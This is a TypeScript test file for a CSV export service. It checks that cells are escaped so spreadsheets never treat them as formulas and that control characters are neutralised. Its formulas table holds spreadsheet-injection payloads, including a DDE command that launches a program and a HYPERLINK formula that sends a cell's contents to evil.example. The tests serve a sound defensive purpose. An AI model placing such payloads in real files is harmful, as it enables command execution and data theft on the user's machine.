import { describe, expect, it } from 'vitest'
import { csvCell, csvOf } from '../../../../src/main/services/export/csv.ts'
import { listOf, readAll, rowOf } from './lists.ts'

/** RFC 4180 as a reader of it would have it: quotes may hold separators, line breaks and doubled quotes. */
const parse = (text: string, separator = ','): readonly (readonly string[])[] => {
  const records: string[][] = [[]]
  let cell = ''
  let quoted = false
  for (let at = 0; at < text.length; at++) {
    const one = text[at]
    if (quoted && one === '"' && text[at + 1] === '"') {
      cell += '"'
      at++
    } else if (one === '"' && (quoted || cell === '')) quoted = !quoted
    else if (!quoted && (one === separator || one === '\n')) {
      records.at(-1)?.push(cell.replace(/\r$/, ''))
      cell = ''
      if (one === '\n') records.push([])
    } else cell += one
  }
  expect(quoted).toBe(false)
  return records.slice(0, -1)
}

const formulas: readonly (readonly [string, string])[] = [
  ['an equals sign', '=1+1'],
  ['a plus', '+1'],
  ['a minus', '-1'],
  ['an at', '@SUM(A1)'],
  ['a tab', '\t=1'],
  ['a carriage return', '\r=1'],
  ['a NUL', '\0=1'],
  ['a full-width equals sign', '\uff1d1+1'],
  ['a full-width plus', '\uff0b1'],
  ['a full-width minus', '\uff0d1'],
  ['a full-width at', '\uff20SUM'],
  ['a minus of mathematics', '\u22121'],
  ['spaces before it', '   =1'],
  ['a no-break space before it', '\u00a0=1'],
  ['a line break before it', '\n=1'],
  ['DDE', "=cmd|' /C calc'!A0"],
  ['a link that sends cells away', '=HYPERLINK("https://evil.example/?"&A1,"click")'],
]

describe('a cell', () => {
  it.each(formulas)('is no formula after %s', (_what, text) => {
    const [[cell = ''] = []] = parse(`${csvCell(text)}\r\n`)
    expect(cell).toMatch(/^'/)
  })

  it('is no formula where a semicolon separates', () => {
    // There what stands before the first semicolon is one cell, and only its own quotes count.
    const name = 'a;=1+1;  @x;"=1+1;"" =1;\'"=1;b'
    const cells = parse(`"x",${csvCell(name)}\r\n`, ';').flat()
    expect(cells).toHaveLength(7)
    for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@]/)
  })

  it.each(['plain', 'a, b', 'say "hi"', '";', '__proto__', 'مفتاح 🚀', 'a;b', '1e999', "O'Brien"])(
    'is read back as it was: %j',
    text => {
      expect(parse(`${csvCell(text)},"end"\r\n`)).toEqual([[text, 'end']])
    },
  )

  it('hides nothing, and breaks no line', () => {
    expect(csvCell('evil\u202etxt\r\n"forged","line"\0\ud800\u001b[31m')).toBe(
      '"evil\\u202etxt\\u000d\\u000a""forged"",""line""\\u0000\\ud800\\u001b[31m"',
    )
  })

  it('is a number, or empty', () => {
    expect([csvCell(1204), csvCell(null), csvCell('')]).toEqual(['1204', '', '""'])
  })
})

describe('the list as CSV', () => {
  it('begins with a byte order mark and its headings, and has one line for each key', async () => {
    const text = await readAll(
      csvOf(
        listOf([
          rowOf({ name: '=1\r\n2', usageCount: 3, expiresAt: Date.UTC(2027, 0, 1) }),
          rowOf({ name: 'second', description: null, createdAt: 8.7e15 }),
        ]),
      ),
    )
    expect(text).toMatch(/^\ufeff"Connection","Environment","Kind","Name"/)
    const [headings = [], ...records] = parse(text.slice(1))
    expect(text.split('\r\n')).toHaveLength(4)
    const [first, second] = records.map(record =>
      Object.fromEntries(headings.map((heading, column) => [heading, record[column]])),
    )
    expect(first).toMatchObject({
      ...{ Connection: 'Billing', Environment: 'production', Name: "'=1\\u000d\\u000a2" },
      ...{ Uses: '3', Expires: '2027-01-01T00:00:00.000Z' },
      ...{ 'List as of': '2026-11-21T10:00:00.000Z', 'List complete': 'yes' },
    })
    // A time that no calendar has.
    expect(second).toMatchObject({ Name: 'second', Description: '', Created: '8700000000000000' })
  })
})
